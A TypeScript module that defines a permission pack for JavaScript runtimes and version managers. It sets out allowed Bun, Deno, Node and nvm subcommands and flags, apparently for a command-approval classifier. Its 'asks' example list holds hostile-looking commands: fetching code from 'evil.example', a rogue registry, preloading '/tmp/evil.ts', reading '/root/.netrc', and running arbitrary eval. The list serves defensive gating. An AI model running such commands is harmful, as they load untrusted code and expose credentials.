import type { Pack } from './pack.ts';

/** What runs JavaScript: Node, Deno and Bun with its package manager, and those that choose a version. `~` forms run code of the work tree. */
export const runtimes = (): Pack => ({
  name: 'runtimes',
  tools: {
    bun: `
      %here
      ; v! -version! -revision! ;
      pm ls|list|hash|hash-string|hash-print|bin|cache|untrusted|default-trusted|whoami|version ; a -all g -global ;
      pm view|info ; -json ; npmspec! id*
      pm why ; -json -top -depth:num ; lit!
      pm pkg get ; ; id*
      list|ls ; a -all g -global ;
      outdated ; r -recursive F:lit -filter:lit g -global -production p ; lit*
      audit ; -json -audit-level:=low|moderate|high|critical p -prod -production -ignore:slug ;
      info|view ; -json ; npmspec! id*
      why ; -json -top -depth:num ; lit!
      completions ; ;
      %help add install i remove rm update upgrade link unlink patch publish create init build repl
      pm|run|x ; -help! h! ;
      ~ build ; -outfile:tree -outdir:tree -minify -sourcemap?=none|linked|inline|external -target:=browser|bun|node -format:=esm|cjs|iife -splitting -production -watch e:param -external:param -packages:=bundle|external ; infile! infile*
      ~ test ; t:param -test-name-pattern:param -timeout:num -bail? -coverage -watch -only -todo -rerun-each:num u -update-snapshots -concurrent -randomize ; infile*
      ~ run ; -if-present -silent -bun b ; script! scriptarg*`,
    deno: `
      ; V! -version! v ;
      info ; -json q -quiet ;
      ~ info ; -json -no-remote q -quiet ; infile
      ~ fmt ; -check q -quiet -ext:param -line-width:num -use-tabs -indent-width:num -single-quote -no-semicolons ; infile*
      ~ lint ; q -quiet -json -rules -rules-tags:param -rules-include:param -rules-exclude:param -compact ; infile*
      ~ check ; q -quiet -all ; infile*
      ~ test ; q A -quiet -allow-all R? W? N? E? S? -allow-read? -allow-write? -allow-net? -allow-env? -allow-sys? -no-prompt -no-check -no-run -fail-fast? -filter:param -parallel -trace-leaks -coverage -doc -watch -shuffle? -ignore:param -permit-no-files -reporter:=pretty|dot|junit|tap -no-lock -frozen -no-remote -cached-only ; infile*
      ~ task ; q -quiet ; script! scriptarg*`,
    bunx: '',
    nvm: `
      ; v! -version! ;
      ls|list ; -no-colors -no-alias ; id
      ls-remote ; -lts? -no-colors ; id
      current|cache ; ;
      version|which|version-remote ; ; id`,
    fnm: '; V! -version! ;\nlist|ls|current|list-remote|ls-remote ; -lts? -latest ;',
    volta: '; v! -version! ;\nlist|ls ; c d -current -default -format:=human|plain ; id*\nwhich ; ; id\nhelp ; ; word',
    node: `
      ; v! -version! h! -help! ;
      c! -check! ; infile!
      ~ ; -test! -test-name-pattern:param -test-skip-pattern:param -test-only -test-concurrency:num -test-timeout:num -test-shard:param -test-force-exit -test-isolation:=process|none -test-update-snapshots -test-reporter:=spec|tap|dot|junit|lcov -test-reporter-destination:=stdout|stderr -experimental-test-coverage -test-coverage-include:param -test-coverage-exclude:param -test-coverage-lines:num -test-coverage-branches:num -test-coverage-functions:num -enable-source-maps -experimental-strip-types -experimental-transform-types -experimental-test-module-mocks -experimental-test-snapshots -no-warnings -watch ; infile*`,
  },
  rules: [],
  examples: {
    routine: [
      'bun outdated --filter "a*"',
      'bun audit --prod',
      'bun pm pkg get name',
      'bun why "@a/*"',
      'bun link --help',
      'node -v',
      'node --check src/a.js',
      'nvm ls',
      'bun --version',
    ],
    workspace: ['node --test', 'node --test --test-reporter=tap test/', 'deno test --allow-read', 'deno task build', 'bun test'],
    asks: [
      'node --test --import ./x.mjs',
      'node --test --test-reporter=./evil.mjs',
      'node --test --test-reporter-destination=/etc/x',
      'deno test https://example.org/a.ts',
      'deno test --config https://example.org/x',
      'deno task deploy',
      'bunx black .',
      'deno info https://evil.example/x.ts',
      'bun audit fix x --registry https://evil.example',
      'bun pm pkg set a=b',
      'bun pm cache rm',
      'bun pm trust --all',
      'bun pm scan',
      'bun outdated --cwd /tmp/evil',
      'bun info p --config=/tmp/x',
      'bun run --help x.ts',
      'bun build a.ts --outdir /tmp/x',
      'bun build a.ts --compile --outfile x',
      'bun build ../a.ts',
      'bun x --help evil',
      'bun -e 1',
      'bun test --preload=/tmp/evil.ts',
      'bun test --cwd=/tmp/evil',
      'bun x.ts',
      'deno run x.ts',
      'deno eval 1',
      'node x.js',
      'node --check -e 1',
      'node --check /root/.netrc',
      'node -r /tmp/x --check f',
    ],
  },
});
